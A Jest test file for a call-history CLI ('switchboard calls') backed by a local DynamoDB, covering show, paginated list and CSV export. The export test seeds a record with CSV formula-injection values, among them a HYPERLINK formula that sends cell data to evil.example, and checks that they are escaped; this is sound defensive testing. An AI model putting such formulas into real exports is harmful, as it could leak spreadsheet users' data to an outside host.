import { existsSync } from 'node:fs';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { CreateTableCommand, DeleteTableCommand } from '@aws-sdk/client-dynamodb';
import { createDynamoDBClient } from '../../core/store/dynamodb-client';
import { CALLS_TABLE, LOCAL_TABLE_NAMES, RETIRED_BY_DAY_INDEX } from '../../core/store/tables';
import { ensureTables, startLocalDynamoDB, type LocalDynamoDB } from '../../local/dynamodb';
import { runCli } from '../support/cli';
import { callHistory } from '../support/cli-history';

/** Call history as `switchboard calls` shows it, from a local DynamoDB (`--endpoint`). */
describe('switchboard calls, against a local DynamoDB', () => {
  let dynamodb: LocalDynamoDB;
  let dir: string;
  const cli = (args: string[]) => runCli([...args, '--endpoint', dynamodb.endpoint]);
  const now = Date.now();
  const at = (minutesAgo: number, plusSeconds = 0) => new Date(now - minutesAgo * 60_000 + plusSeconds * 1000).toISOString();
  const TWO_DAYS = 2 * 24 * 60;
  /** Within the last hour: 25 calls, newest first. */
  const recent = Array.from({ length: 25 }, (_, i) => `rtc_recent_${String(i).padStart(2, '0')}`);

  beforeAll(async () => {
    dir = await mkdtemp(join(tmpdir(), 'switchboard-calls-'));
    dynamodb = await startLocalDynamoDB();
    await ensureTables(createDynamoDBClient({ endpoint: dynamodb.endpoint }), LOCAL_TABLE_NAMES);
    const history = callHistory(dynamodb.endpoint, LOCAL_TABLE_NAMES);
    for (const [i, callId] of recent.entries()) {
      await history.add({ callId, number: '+17134810155', caller: '+14155550199', startedAt: at(i + 1), outcome: 'rejected', reason: 'caller-blocked', rejectStatus: 603 });
    }
    await history.add({ callId: 'rtc_missed', number: '+17134810111', caller: '+14067704205', startedAt: at(TWO_DAYS), endedAt: at(TWO_DAYS, 1), outcome: 'missed', reason: 'caller-hung-up' });
    await history.add({
      callId: 'rtc_hostile', number: '+17134810111', caller: '+14067704205', startedAt: at(TWO_DAYS + 5), endedAt: at(TWO_DAYS + 5, 12), durationSeconds: 12,
      label: '=HYPERLINK("https://evil.example/?"&A1,"open")', outcome: 'completed', reason: '@SUM(1+1)',
      transcript: [{ role: 'caller', text: '-2+3', at: at(TWO_DAYS + 5, 2), id: 'item_h1' }],
    });
  });

  afterAll(async () => {
    await dynamodb.close();
    await rm(dir, { recursive: true, force: true });
  });

  describe('calls show', () => {
    it('shows when a missed call ended, without an empty duration', async () => {
      const result = await cli(['calls', 'show', 'rtc_missed']);
      expect(result.code).toBe(0);
      const short = (iso: string) => iso.replace('T', ' ').replace(/\.\d+Z$/, '');
      expect(result.stdout.split('\n')[2]).toBe(`  started ${short(at(TWO_DAYS))} UTC, ended ${short(at(TWO_DAYS, 1))}`);
      expect(result.stdout).toContain('  outcome missed (caller-hung-up)');
    });
  });

  describe('calls list, a page at a time', () => {
    it('says when more calls exist than it printed, and gives the cursor of the next page', async () => {
      const first = await cli(['calls', 'list', '--since', '1h', '--json']);
      expect(first.code).toBe(0);
      const page1 = JSON.parse(first.stdout);
      expect(page1.calls.map((c: { callId: string }) => c.callId)).toEqual(recent.slice(0, 20));
      expect(page1.cursor).toEqual(expect.any(String));
      expect(first.stderr).toContain(`(showing the newest 20; the next 20 with --cursor ${page1.cursor}, or more with --limit <k> or --all)`);

      const second = await cli(['calls', 'list', '--since', '1h', '--json', '--cursor', page1.cursor]);
      expect(second.code).toBe(0);
      expect(JSON.parse(second.stdout)).toEqual({ calls: recent.slice(20).map((callId) => expect.objectContaining({ callId })), cursor: null });
      expect(second.stderr).toBe('');
    });

    it('gives the cursor with the table too', async () => {
      const table = await cli(['calls', 'list', '--since', '1h', '--limit', '10']);
      const cursor = /--cursor (\S+),/.exec(table.stderr)?.[1];
      expect(cursor).toBeDefined();
      const next = await cli(['calls', 'list', '--since', '1h', '--limit', '10', '--cursor', cursor!]);
      expect(next.stdout.trim().split('\n').slice(1).map((l) => l.split(/\s+/).pop())).toEqual(recent.slice(10, 20));
      expect(next.stderr).toMatch(/^\(showing the next 10; the next 10 with --cursor \S+, or more with --limit <k> or --all\)$/m);
    });

    it('refuses a cursor it did not give', async () => {
      const result = await cli(['calls', 'list', '--cursor', 'not-a-cursor']);
      expect(result.code).toBe(2);
      expect(result.stderr).toBe('error: --cursor "not-a-cursor" is not a cursor `calls list` printed: pass the cursor of the previous page, with the same filters\n');
    });
  });

  describe('calls export', () => {
    it('writes cells a spreadsheet would run as formulas as text, phone numbers with their plus', async () => {
      const result = await cli(['calls', 'export', '--since', '7d', '--format', 'csv']);
      expect(result.code).toBe(0);
      const hostile = result.stdout.split('\n').find((line) => line.startsWith('rtc_hostile,'));
      expect(hostile).toContain(`,12,'+17134810111,'+14067704205,"'=HYPERLINK(""https://evil.example/?""&A1,""open"")",completed,'@SUM(1+1),,,0,0,0,0,,,caller: -2+3`);
      const missed = result.stdout.split('\n').find((line) => line.startsWith('rtc_missed,'));
      expect(missed).toContain(",'+17134810111,'+14067704205,,missed,caller-hung-up,");
    });

    it('says when the --out directory does not exist, and writes nothing', async () => {
      const out = join(dir, 'missing', 'calls.csv');
      const result = await cli(['calls', 'export', '--since', '7d', '--format', 'csv', '--out', out]);
      expect(result.code).toBe(2);
      expect(result.stderr).toBe(`error: cannot write --out ${out}: the directory ${join(dir, 'missing')} does not exist; create it or choose another path (nothing was written)\n`);
      expect(existsSync(join(dir, 'missing'))).toBe(false);
    });

    it('says when --out is a directory', async () => {
      const result = await cli(['calls', 'export', '--since', '7d', '--format', 'csv', '--out', dir]);
      expect(result.code).toBe(2);
      expect(result.stderr).toBe(`error: cannot write --out ${dir}: it is a directory; name a file in it, e.g. ${join(dir, 'calls.csv')} (nothing was written)\n`);
    });
  });
});

/** A stack deployed before this release, or one whose new day index DynamoDB is still filling. */
describe('switchboard calls list while the day index is not there yet', () => {
  let dynamodb: LocalDynamoDB;
  const tables = LOCAL_TABLE_NAMES;

  beforeAll(async () => {
    dynamodb = await startLocalDynamoDB();
    const client = createDynamoDBClient({ endpoint: dynamodb.endpoint });
    await ensureTables(client, tables);
    // The calls table as the release before built it: byDay, not byDayWithNumber.
    await client.send(new DeleteTableCommand({ TableName: tables.calls }));
    const index = (i: { name: string; partitionKey: string; sortKey: string; nonKeyAttributes?: readonly string[] }) => ({
      IndexName: i.name,
      KeySchema: [{ AttributeName: i.partitionKey, KeyType: 'HASH' as const }, { AttributeName: i.sortKey, KeyType: 'RANGE' as const }],
      Projection: i.nonKeyAttributes ? { ProjectionType: 'INCLUDE' as const, NonKeyAttributes: [...i.nonKeyAttributes] } : { ProjectionType: 'KEYS_ONLY' as const },
    });
    await client.send(
      new CreateTableCommand({
        TableName: tables.calls,
        BillingMode: 'PAY_PER_REQUEST',
        AttributeDefinitions: ['callId', 'number', 'startedAt', 'day', 'liveNumber'].map((AttributeName) => ({ AttributeName, AttributeType: 'S' as const })),
        KeySchema: [{ AttributeName: 'callId', KeyType: 'HASH' }],
        GlobalSecondaryIndexes: [index(CALLS_TABLE.byNumberIndex), index(RETIRED_BY_DAY_INDEX), index(CALLS_TABLE.liveByNumberIndex)],
      }),
    );
    await callHistory(dynamodb.endpoint, tables).add({ callId: 'rtc_before', number: '+17134810111', caller: '+14067704205', startedAt: new Date().toISOString(), outcome: 'rejected', reason: 'caller-blocked', rejectStatus: 603 });
  });
  afterAll(() => dynamodb.close());

  it('lists the calls from the older index, says the numbers are missing, and --number lists them whole', async () => {
    const list = await runCli(['calls', 'list', '--json', '--endpoint', dynamodb.endpoint]);
    expect(list.code).toBe(0);
    expect(JSON.parse(list.stdout).calls).toEqual([expect.objectContaining({ callId: 'rtc_before', caller: '+14067704205', outcome: 'rejected' })]);
    expect(JSON.parse(list.stdout).calls[0]).not.toHaveProperty('number');
    expect(list.stderr).toContain('note: the history index byDayWithNumber is not ready yet');
    const byNumber = await runCli(['calls', 'list', '--json', '--number', '+17134810111', '--endpoint', dynamodb.endpoint]);
    expect(JSON.parse(byNumber.stdout).calls).toEqual([expect.objectContaining({ callId: 'rtc_before', number: '+17134810111' })]);
    expect(byNumber.stderr).toBe('');
  });
});
